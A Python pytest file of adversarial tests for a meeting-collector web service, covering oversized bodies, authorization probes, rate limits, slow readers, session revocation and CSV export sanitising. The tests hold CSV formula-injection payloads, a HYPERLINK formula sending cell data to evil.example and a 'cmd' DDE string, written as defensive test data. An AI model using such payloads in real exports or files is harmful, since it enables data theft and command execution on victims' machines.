"""The collector against a hostile client (issue 12): a real collector process, a real Mosquitto, raw
HTTP as an attacker sends it. During each attack a witness device publishes samples that must all be
stored, and its member must stay ``ok`` (nothing valid is lost beside an attack)."""

from __future__ import annotations

import csv
import dataclasses
import io
import re
import threading
import time
from typing import Any

import httpx

from collector import auth
from tests.support.waiting import wait_until
from tests.web.conftest import PASSWORD, Collector, sign_in
from tests.web.security_support import Witness, chunked_post, open_download, reset, rss_bytes, status_of

MIB = 1024 * 1024


def witness(c: Collector) -> Witness:
    return Witness(c, "dev-a", "ks-test", "anna")


def selftest_link(c: Collector, member: str = "anna", meeting: str = "ks-test") -> str:
    links = c.api(f"/api/meetings/{meeting}/selftest-links")
    url = next(x["url"] for x in links if x["member_id"] == member)
    return str(url.split("/selftest/", 1)[1])


def token_for(c: Collector, name: str, role: str, bodies: list[str]) -> dict[str, str]:
    return {"Authorization": f"Bearer {auth.add_api_token(c.data / 'users.toml', name, role, bodies=bodies)}"}


# -- item 1: bodies bounded before they are read ------------------------------------------------------


def test_huge_chunked_bodies_are_refused_before_they_fill_memory(collector: Collector) -> None:
    """Four 128 MiB chunked POSTs without credentials (actions), and big ones with credentials
    (actions, self-test result, media path offer): each is answered 401/413 long before its end, and
    the collector's memory does not grow by the bodies' size."""
    assert collector.proc is not None
    link = selftest_link(collector)
    with witness(collector) as w:
        before = rss_bytes(collector.proc.pid)
        answers: list[Any] = []

        def attack(path: str, headers: dict[str, str] | None) -> None:
            answers.append((path, chunked_post(collector.base, path, 128 * MIB, headers)))

        jobs = [("/api/meetings/ks-test/actions", None)] * 4 + [
            ("/api/meetings/ks-test/actions", collector.headers),
            (f"/selftest/{link}/result", None),
            ("/api/mediapath/offer", collector.headers),
        ]
        threads = [threading.Thread(target=attack, args=job) for job in jobs]
        for t in threads:
            t.start()
        for t in threads:
            t.join(120)
        grown = rss_bytes(collector.proc.pid) - before
    assert len(answers) == len(jobs)
    for path, a in answers:
        assert a.status in (401, 413), (path, a.head)
        assert a.sent < 16 * MIB, f"{path}: {a.sent} bytes sent before the collector answered"
    assert sorted(a.status for _p, a in answers) == [401] * 4 + [413] * 3
    assert grown < 48 * MIB, f"the collector grew by {grown / MIB:.0f} MiB"
    w.check()
    counters = collector.api("/api/web/counters")["pages"]
    assert counters.get("body_too_large", 0) >= 3 and counters.get("refused_before_body_401", 0) >= 4


def test_declared_oversized_body_is_413_and_a_normal_action_still_works(collector: Collector) -> None:
    r = httpx.post(
        f"{collector.base}/api/meetings/ks-test/actions",
        headers=collector.headers,
        content=b'{"kind": "item_start", "item": "' + b"x" * 20_000 + b'"}',
        timeout=10,
    )
    assert r.status_code == 413 and r.json()["limit_bytes"] == 16 * 1024
    ok = httpx.post(
        f"{collector.base}/api/meetings/ks-test/actions",
        headers=collector.headers,
        json={"kind": "item_start", "item": "§ 1"},
        timeout=10,
    )
    assert ok.status_code == 201, ok.text


# -- item 2: a chair's media path offer only for their own bodies' meetings ------------------------------


def test_chair_of_one_body_cannot_offer_a_media_path_for_another_bodys_device(collector: Collector) -> None:
    ks_chair = token_for(collector, "ks-chair", "chair", ["kommunstyrelsen"])
    offer = {"device_id": "dev-z", "meeting_id": "sn-test", "type": "offer", "sdp": "v=0\r\nm=video 9\r\n"}
    for body in (offer, {**offer, "meeting_id": None}, {**offer, "meeting_id": "ks-test"}):
        r = httpx.post(f"{collector.base}/api/mediapath/offer", headers=ks_chair, json=body, timeout=10)
        assert r.status_code == 403, (body, r.text)
    # their own body's device gets past the guard (this SDP is no real offer: 400 from the peer)
    own = httpx.post(
        f"{collector.base}/api/mediapath/offer",
        headers=ks_chair,
        timeout=10,
        json={**offer, "device_id": "dev-a", "meeting_id": "ks-test"},
    )
    assert own.status_code == 400, own.text
    zoe = collector.participant("sn-test", "zoe")
    assert zoe["state"] != "failing" and not zoe.get("mediapath")
    assert collector.api("/api/web/counters")["pages"]["mediapath_offer_refused"] >= 3


def test_unknown_meeting_and_other_bodys_meeting_answer_alike(collector: Collector) -> None:
    """Item 13: a chair cannot probe which meeting ids exist."""
    ks_chair = token_for(collector, "ks-chair-2", "chair", ["kommunstyrelsen"])
    other = httpx.get(f"{collector.base}/api/meetings/sn-test", headers=ks_chair, timeout=5)
    unknown = httpx.get(f"{collector.base}/api/meetings/no-such-meeting", headers=ks_chair, timeout=5)
    assert other.status_code == unknown.status_code == 404
    assert other.json() == unknown.json()
    assert httpx.get(f"{collector.base}/api/meetings/ks-test", headers=ks_chair, timeout=5).status_code == 200


def test_action_times_must_be_real_times(collector: Collector) -> None:
    """Item 13: NaN, ±Infinity and -1e308 are refused (422), nothing recorded."""
    before = len(collector.api("/api/meetings/ks-test/actions"))
    for at in ("NaN", "Infinity", "-Infinity", "-1e308", "1e308"):
        r = httpx.post(
            f"{collector.base}/api/meetings/ks-test/actions",
            timeout=5,
            headers={**collector.headers, "Content-Type": "application/json"},
            content=f'{{"kind": "item_start", "item": "x", "at": {at}}}',
        )
        assert r.status_code == 422, (at, r.text)
    assert len(collector.api("/api/meetings/ks-test/actions")) == before


def test_selftest_links_use_the_configured_address_not_the_host_header(collector: Collector) -> None:
    """Item 13: a forged Host header must not end up in the links the secretary mails out."""
    r = httpx.get(
        f"{collector.base}/api/meetings/ks-test/selftest-links",
        timeout=5,
        headers={**collector.headers, "Host": "evil.example"},
    )
    assert r.status_code == 200
    urls = [x["url"] for x in r.json()]
    assert urls and all(u.startswith(collector.base + "/selftest/") for u in urls), urls


def test_after_the_attacks_the_collector_still_serves(collector: Collector) -> None:
    wait_until(
        lambda: httpx.get(collector.base + "/api/health", headers=collector.headers, timeout=5).status_code == 200,
        timeout=10,
        what="health",
    )


# -- item 5: a self-test link cannot fill the disk ------------------------------------------------------


def test_one_link_records_a_few_results_then_429(collector: Collector) -> None:
    link = selftest_link(collector, "bo")
    body = {
        "started_at": time.time() - 5,
        "duration_s": 5.0,
        "checks": [{"id": "network.rtt", "status": "pass", "value": 20.0, "unit": "ms", "summary": "x" * 2000}] * 28,
    }
    statuses: list[int] = []
    with witness(collector) as w:
        for _ in range(30):
            r = httpx.post(f"{collector.base}/selftest/{link}/result", json=body, timeout=10)
            statuses.append(r.status_code)
            if r.status_code == 429:
                assert int(r.headers["Retry-After"]) >= 1
    w.check()
    assert statuses[:5] == [200] * 5, statuses
    assert statuses.count(200) <= 6 and statuses.count(429) >= 24, statuses
    assert collector.api("/api/web/counters")["pages"]["selftest_rate_limited"] >= 24


# -- items 6, 7: the speed test cannot be blocked, and an aborted download is not a log flood ------------

BIG = "/speedtest/random4000x4000.jpg"


def test_slow_readers_cannot_block_the_speed_test_for_members_or_other_clients(collector: Collector) -> None:
    link = selftest_link(collector)
    readers = []
    with witness(collector) as w:
        try:
            for _ in range(32):  # the attack: 32 downloads from one address that nobody reads
                readers.append(open_download(collector.base, BIG))
            statuses = [status_of(s) for s in readers]
            assert statuses.count(200) <= 8 and statuses.count(503) >= 24, statuses
            # a member with their link, from the same address, and another client elsewhere still get theirs
            member = open_download(collector.base, BIG, headers={"X-Selftest-Token": link})
            other = open_download(collector.base, BIG, source="127.0.0.2")
            try:
                assert status_of(member) == 200 and status_of(other) == 200
            finally:
                reset(member)
                reset(other)
            up = httpx.post(
                f"{collector.base}/speedtest/upload.php",
                content=b"u" * 100_000,
                headers={"X-Selftest-Token": link},
                timeout=10,
            )
            assert up.status_code == 200 and up.text == "size=100000"
            # the slow readers are dropped after the stall timeout: their slots come back
            wait_until(
                lambda: collector.api("/api/web/counters")["pages"].get("speedtest_stalled", 0) >= 1,
                timeout=40,
                what="a stalled download ended",
            )
        finally:
            for s in readers:
                reset(s)
    w.check()


def test_a_reset_download_writes_at_most_one_log_line(collector: Collector) -> None:
    log = collector.workdir / "collector.log"
    before = log.read_text(errors="replace").splitlines()
    for _ in range(3):
        s = open_download(collector.base, BIG, rcvbuf=1 << 20)
        assert status_of(s) == 200
        got = 0
        while got < 300_000:
            got += len(s.recv(65536))
        reset(s)
    time.sleep(2.0)  # anything the aborts would still log
    new = log.read_text(errors="replace").splitlines()[len(before) :]
    assert len(new) <= 3, f"{len(new)} log lines: {new[:5]}"
    assert not any("socket.send() raised exception" in line for line in new)
    wait_until(
        lambda: collector.api("/api/web/counters")["pages"].get("speedtest_aborted", 0) >= 3,
        timeout=20,
        what="three aborted downloads counted",
    )


# -- item 8: CSV exports are data, not formulas --------------------------------------------------------


def test_report_csv_neutralises_formulas_from_free_text(collector: Collector) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"klicka")'
    for body in (
        {"kind": "item_start", "item": evil, "by": "@SUM(1+1)"},
        {"kind": "adjourn", "by": "+cmd|' /C calc'!A0", "note": "-2+3"},
        {"kind": "resume", "by": "\t=1+1"},
    ):
        r = httpx.post(
            f"{collector.base}/api/meetings/ks-test/actions", headers=collector.headers, json=body, timeout=10
        )
        assert r.status_code == 201, r.text
    r = httpx.get(
        f"{collector.base}/it/meetings/ks-test/report", params={"format": "csv"}, headers=collector.headers, timeout=10
    )
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    cells = [c for row in csv.reader(io.StringIO(r.text)) for c in row]
    assert "'+cmd|' /C calc'!A0" in cells, r.text[:2000]  # the adjournment's free-text "by"
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], r.text[:2000]
    incidents = httpx.get(
        f"{collector.base}/api/incidents", params={"format": "csv"}, headers=collector.headers, timeout=10
    )
    assert incidents.status_code == 200
    assert not [c for row in csv.reader(io.StringIO(incidents.text)) for c in row if c[:1] in ("=", "+", "@")]


def test_csv_cell_rules() -> None:
    from collector.web import csvsafe

    for bad in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"):
        assert csvsafe.cell(bad) == "'" + bad
    assert csvsafe.cell(-1.5) == -1.5 and csvsafe.cell("Anna") == "Anna" and csvsafe.cell(None) is None


# -- item 9: a session ends with the password, the body and the sign-out -------------------------------


def sign_in_http(c: Collector, username: str, password: str = PASSWORD) -> httpx.Client:
    client = httpx.Client(base_url=c.base, timeout=10)
    r = client.post("/login", data={"username": username, "password": password})
    assert r.status_code == 303, r.text
    return client


def test_sessions_end_on_password_change_body_removal_and_sign_out(collector: Collector) -> None:
    users = collector.data / "users.toml"
    auth.add_user(users, "ordf-pw", PASSWORD, "chair", bodies=["kommunstyrelsen"])
    auth.add_user(users, "ordf-body", PASSWORD, "chair", bodies=["kommunstyrelsen"])
    auth.add_user(users, "ordf-out", PASSWORD, "chair", bodies=["kommunstyrelsen"])
    pw, body, out = (sign_in_http(collector, u) for u in ("ordf-pw", "ordf-body", "ordf-out"))
    try:
        for client in (pw, body, out):
            assert client.get("/api/meetings/ks-test").status_code == 200
        auth.add_user(users, "ordf-pw", "a brand new password", "chair", bodies=["kommunstyrelsen"])
        assert pw.get("/api/meetings/ks-test").status_code == 401
        # IT moves the chair to another body (same password: the users file edited in place)
        data = auth.read_users(users)
        data.users["ordf-body"] = dataclasses.replace(data.users["ordf-body"], bodies=("socialnämnden",))
        auth.write_users(users, data)
        assert body.get("/api/meetings/ks-test").status_code == 404
        assert body.get("/api/meetings/sn-test").status_code == 200
        # an open live view ends when its session signs out
        csrf = re.search(r'"csrf": ?"([0-9a-f]{64})"', out.get("/chair/ks-test").text)
        assert csrf is not None
        events: list[str] = []
        ended = threading.Event()

        def listen() -> None:
            with out.stream("GET", "/api/meetings/ks-test/events", timeout=60) as r:
                assert r.status_code == 200
                for line in r.iter_lines():
                    events.append(line)
            ended.set()

        t = threading.Thread(target=listen, daemon=True)
        t.start()
        wait_until(lambda: "event: view" in events, timeout=10, what="the stream's first view")
        logout = httpx.post(
            f"{collector.base}/logout", cookies=out.cookies, headers={"X-CSRF-Token": csrf[1]}, timeout=10
        )
        assert logout.status_code == 303
        assert ended.wait(15), "the live view kept streaming after sign-out"
        assert "event: signed_out" in events
    finally:
        for client in (pw, body, out):
            client.close()


def test_chair_view_in_chromium_leaves_for_the_sign_in_page_when_the_session_ends(
    collector: Collector, browser: Any
) -> None:
    auth.add_user(collector.data / "users.toml", "ordf-chromium", PASSWORD, "chair", bodies=["kommunstyrelsen"])
    page = sign_in(browser, collector.base, "ordf-chromium", path="/chair/ks-test")
    try:
        page.wait_for_url("**/chair/ks-test")
        page.wait_for_function("document.querySelector('#conn') !== null")
        csrf = page.evaluate("JSON.parse(document.getElementById('boot').textContent).csrf")
        # signed out from another tab of the same browser
        r = page.context.request.post(f"{collector.base}/logout", headers={"X-CSRF-Token": csrf}, max_redirects=0)
        assert r.status == 303
        page.wait_for_url("**/login?next=*", timeout=15_000)
        assert "/chair/ks-test" not in page.url.split("?")[0]
    finally:
        page.context.close()
